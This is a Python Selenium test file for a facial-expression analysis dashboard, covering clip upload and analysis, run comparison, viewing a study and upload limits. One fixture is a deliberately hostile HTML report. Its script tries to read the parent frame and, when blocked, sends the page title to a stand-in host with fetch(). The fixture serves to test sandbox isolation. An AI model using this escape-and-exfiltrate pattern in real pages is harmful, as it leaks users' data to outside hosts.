"""The dashboard in headless Chromium: a clip analysed by the real program, runs compared, a study looked at."""

import json
import signal
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from tests.helpers.browser import set_screen, until
from tests.helpers.compared_runs import make_run
from tests.helpers.dashboards import running, write_run
from tests.helpers.face_clips import LEFT, write_face_clip

# What a page must not be able to do although its scripts run.
HOSTILE_PAGE = """\
<!doctype html><title>Report</title><style>#far { margin-top: 3000px }</style>
<h1>A hostile report</h1><a href="#far">far</a><p id="told"></p><img src="http://a.example/x.png"><h2 id="far">Far</h2>
<script>
let told = "shut";
try { told = window.top.document.title } catch { fetch("http://a.example/?" + document.title).catch(() => 0) }
document.querySelector("#told").textContent = told;
</script>
"""


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    outputs = tmp_path_factory.mktemp("runs") / "outputs"
    for name, accuracy in (("a", 0.7), ("b", 0.8)):
        (make_run(outputs / "train" / name, accuracy) / "report.html").write_text(HOSTILE_PAGE)
    study = write_run(outputs / "infer" / "study", program="infer.py")
    (study / "study.html").write_text("<!doctype html><title>Study</title><h1>What a panel felt</h1>")
    return outputs


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("dashboard")


@pytest.fixture(scope="module")
def address(outputs: Path, folder: Path, driver: Any) -> Iterator[str]:
    """The dashboard; in the end it has asked nothing of anybody else, and leaves nothing behind."""
    driver.get("about:blank")
    driver.get_log("performance")
    with running(outputs, folder, "--max-upload-mb", "1") as (address, process):
        yield address
        messages = [json.loads(entry["message"])["message"] for entry in driver.get_log("performance")]
        asked = {
            message["params"]["request"]["url"]
            for message in messages
            if message["method"] == "Network.requestWillBeSent"
        }
        hosts = {
            url.partition(":")[0] if url.startswith(("data", "blob")) else "/".join(url.split("/")[:3]) for url in asked
        }
        driver.get("about:blank")
        process.send_signal(signal.SIGTERM)
        assert process.wait(60) == 0
        assert [path.name for path in folder.iterdir()] == ["app.log"]
    assert hosts - {"data", "blob", "about:"} == {address}
    assert "Traceback" not in (folder / "app.log").read_text()


def open_page(driver: Any, address: str, title: str) -> None:
    driver.switch_to.default_content()
    driver.get(address)
    until(driver, lambda: title in texts(driver, "h1"))


def texts(driver: Any, selector: str) -> list[str]:
    script = "return [...document.querySelectorAll(arguments[0])].map((element) => element.textContent.trim())"
    return list(driver.execute_script(script, selector))


def press(driver: Any, label: str, script: str) -> bool:
    """Do something with the button of this label; whether there is one that can be pressed."""
    find = "[...document.querySelectorAll('button:enabled')].find((one) => one.innerText.endsWith(arguments[0]))"
    # In one step: the page may be shown anew at any moment.
    return bool(driver.execute_script(f"const button = {find}; if (button) {script}; return Boolean(button)", label))


def shows_button(driver: Any, label: str) -> bool:
    return press(driver, label, "{}")


def click_button(driver: Any, label: str) -> None:
    until(driver, lambda: press(driver, label, "button.click()"))


def enter_report(driver: Any) -> None:
    """Into the page of a run, which stands in a frame of a frame."""
    until(driver, lambda: driver.find_elements(By.CSS_SELECTOR, "iframe[data-testid='stIFrame']"))
    driver.switch_to.frame(driver.find_element(By.CSS_SELECTOR, "iframe[data-testid='stIFrame']"))
    driver.switch_to.frame(driver.find_element(By.CSS_SELECTOR, "iframe"))
    until(driver, lambda: texts(driver, "h1"))


def upload(driver: Any, path: Path) -> None:
    until(driver, lambda: driver.find_elements(By.CSS_SELECTOR, "input[type=file]"))
    driver.find_element(By.CSS_SELECTOR, "input[type=file]").send_keys(str(path))


def test_a_clip_is_analysed_and_its_report_shown(driver: Any, address: str, folder: Path, tmp_path: Path) -> None:
    clip = write_face_clip(tmp_path / "my clip.mp4", [((3, LEFT),)] * 40)
    set_screen(driver, 1200, "light")
    open_page(driver, address, "Analyse clips and pictures")
    upload(driver, clip)
    until(driver, lambda: shows_button(driver, "Delete files and result"))
    (stored,) = folder.glob("fer-app-*/*/upload-1.mp4")
    assert stored.read_bytes() == clip.read_bytes()
    click_button(driver, "Analyse")
    until(driver, lambda: shows_button(driver, "Cancel"))
    until(driver, lambda: texts(driver, "[data-testid='stProgress']"))
    enter_report(driver)
    assert "upload-1.mp4" in str(driver.find_element(By.TAG_NAME, "body").text)
    driver.execute_script("document.querySelector('#video-1').scrollIntoView()")
    until(driver, lambda: driver.find_elements(By.CSS_SELECTOR, "#video-1 .scatterlayer .trace"))
    until(driver, lambda: driver.execute_script("return document.querySelector('video').readyState >= 1"))
    driver.switch_to.default_content()
    assert texts(driver, "[data-testid='stAlert']") == []
    assert (stored.parent / "run" / "predictions.csv").is_file()


def test_a_report_runs_its_scripts_and_reaches_nothing_else(driver: Any, address: str) -> None:
    open_page(driver, f"{address}/runs?run=train/a", "Runs")
    enter_report(driver)
    assert texts(driver, "h1, #told") == ["A hostile report", "shut"]
    driver.find_element(By.LINK_TEXT, "far").click()
    until(driver, lambda: driver.execute_script("return window.scrollY > 1000"))
    assert texts(driver, "h1") == ["A hostile report"]


def test_runs_are_compared_and_a_study_is_looked_at(driver: Any, address: str) -> None:
    open_page(driver, f"{address}/compare", "Compare trainings")
    until(driver, lambda: driver.find_elements(By.CSS_SELECTOR, "[data-testid='stMultiSelect'] input"))
    for name in ("train/a", "train/b"):
        driver.find_element(By.CSS_SELECTOR, "[data-testid='stMultiSelect'] input").send_keys(name, Keys.ENTER)
    click_button(driver, "Compare")
    enter_report(driver)
    assert "macro-F1" in str(driver.find_element(By.TAG_NAME, "body").text)
    open_page(driver, f"{address}/studies", "Studies")
    enter_report(driver)
    assert texts(driver, "h1") == ["What a panel felt"]


def test_an_upload_beyond_the_limit_is_refused_in_a_sentence(driver: Any, address: str, tmp_path: Path) -> None:
    large = tmp_path / "long.mp4"
    with large.open("wb") as file:
        # Three gigabytes that take no room.
        file.truncate(3 << 30)
    open_page(driver, address, "Analyse clips and pictures")
    upload(driver, large)
    until(driver, lambda: "1.0MB or smaller" in " ".join(texts(driver, "[data-testid='stFileUploader']")))
